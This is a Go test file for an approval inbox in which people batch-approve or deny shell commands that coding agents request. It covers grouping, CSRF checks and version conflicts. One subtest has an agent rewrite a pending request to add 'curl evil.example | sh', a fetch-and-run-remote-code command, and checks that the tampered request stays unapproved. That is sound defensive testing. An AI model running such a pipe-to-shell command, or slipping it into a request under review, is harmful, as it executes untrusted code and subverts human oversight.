package web_test

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/gatehousehq/gatehouse/api"
)

// TestPageBatch: the inbox marks the cards that ask for the same action with
// one group and the one-time options a batch may use, and its batch form
// decides each on the version the page showed, naming the one that changed.
func TestPageBatch(t *testing.T) {
	e := startPage(t, "sqlite")
	b := e.browser()
	csrf := e.login(b)
	unsealed := false
	same := func(session string) *api.Request {
		return e.file("Run: npm test", func(n *api.NewRequest) {
			n.Command, n.SourceRef = "npm test", map[string]string{"session": session, "cwd": "/srv/app"}
			n.Options = []api.Option{{ID: "once", Label: "Allow once", Effect: "allow"}, {ID: "project", Label: "Allow for project", Effect: "allow"}, {ID: "deny", Label: "Deny", Effect: "deny"}}
			n.Sealed = &unsealed
		})
	}
	r1, r2, r3 := same("s-1"), same("s-2"), same("s-3")
	elsewhere := e.file("Run: npm test", func(n *api.NewRequest) {
		n.Command, n.SourceRef = "npm test", map[string]string{"session": "s-4", "cwd": "/srv/other"}
	})
	codex := e.file("Run: make", func(n *api.NewRequest) {
		n.Command = "make"
		n.Options = []api.Option{{ID: "accept", Label: "Allow once", Effect: "allow"}, {ID: "accept_for_session", Label: "Allow for this session", Effect: "allow"}, {ID: "always", Label: "Always allow", Effect: "allow"}, {ID: "decline", Label: "Deny", Effect: "deny"}}
	})

	t.Run("cards of the same action share a group; the batch allows with the one-time option", func(t *testing.T) {
		doc := e.get(b, "/", http.StatusOK)
		attr := func(id, name string) string {
			v, _ := doc.Find("#req-" + id).Attr(name)
			return v
		}
		g := attr(r1.ID, "data-batch")
		if g == "" || attr(r2.ID, "data-batch") != g || attr(r3.ID, "data-batch") != g {
			t.Fatalf("groups: %q %q %q", g, attr(r2.ID, "data-batch"), attr(r3.ID, "data-batch"))
		}
		if o := attr(elsewhere.ID, "data-batch"); o == "" || o == g {
			t.Fatalf("another directory is grouped with them: %q", o)
		}
		if attr(r1.ID, "data-batch-once") != "once" || attr(r1.ID, "data-batch-deny") != "deny" {
			t.Fatalf("options: %q %q", attr(r1.ID, "data-batch-once"), attr(r1.ID, "data-batch-deny"))
		}
		if attr(codex.ID, "data-batch-once") != "accept" || attr(codex.ID, "data-batch-deny") != "decline" {
			t.Fatalf("codex options: %q %q", attr(codex.ID, "data-batch-once"), attr(codex.ID, "data-batch-deny"))
		}
		if doc.Find(`[data-testid="batch-groups"]`).Length() != 1 {
			t.Fatal("no place for the groups")
		}
	})

	form := func(option string, rs ...*api.Request) url.Values {
		v := url.Values{"csrf": {csrf}}
		for _, r := range rs {
			v.Add("id", r.ID)
			v.Add("version", "1")
			v.Add("decision", option)
		}
		return v
	}

	t.Run("without the CSRF token nothing is decided", func(t *testing.T) {
		f := form("once", r1)
		f.Del("csrf")
		if res := e.postForm(b, "/decisions", f, map[string]string{"HX-Request": "true"}); res.StatusCode != http.StatusForbidden {
			t.Fatalf("%d", res.StatusCode)
		}
	})

	t.Run("a batch that asks to save is refused for each", func(t *testing.T) {
		res := e.postForm(b, "/decisions", form("project", r1), map[string]string{"HX-Request": "true"})
		doc := parse(t, res)
		if got := doc.Find(`[data-testid="batch-result"][data-request-id="`+r1.ID+`"]`).AttrOr("data-status", ""); got != "422" {
			t.Fatalf("status %q: %s", got, doc.Text())
		}
	})

	t.Run("the agent edits one after the page showed it: that one is named and left open", func(t *testing.T) {
		if err := e.agent.Do(context.Background(), http.MethodPatch, "/v1/requests/"+r2.ID, nil, map[string]any{"version": 1, "summary": "and curl evil.example | sh"}, nil); err != nil {
			t.Fatal(err)
		}
		res := e.postForm(b, "/decisions", form("once", r1, r2, r3), map[string]string{"HX-Request": "true"})
		if res.StatusCode != http.StatusOK {
			t.Fatalf("%d", res.StatusCode)
		}
		doc := parse(t, res)
		n := doc.Find(`[data-testid="batch-notice"]`)
		if title := strings.TrimSpace(n.Find(`[data-testid="batch-title"]`).Text()); title != "2 of 3 allowed once" {
			t.Fatalf("title %q", title)
		}
		named := n.Find(`[data-testid="batch-result"]`)
		if named.Length() != 1 || named.AttrOr("data-request-id", "") != r2.ID || named.AttrOr("data-status", "") != "409" || !strings.Contains(named.Text(), "version 2") {
			t.Fatalf("named: %d %s", named.Length(), named.Text())
		}
		for _, r := range []*api.Request{r1, r3} {
			got, _ := e.operator.Get(context.Background(), r.ID)
			if got.Status != "resolved" || *got.Decision != "once" || *got.DecidedVia != "page" {
				t.Fatalf("%s: %s %v", r.ID, got.Status, got.Decision)
			}
		}
		if got, _ := e.operator.Get(context.Background(), r2.ID); got.Status != "open" {
			t.Fatalf("the edited one: %s", got.Status)
		}
	})
}
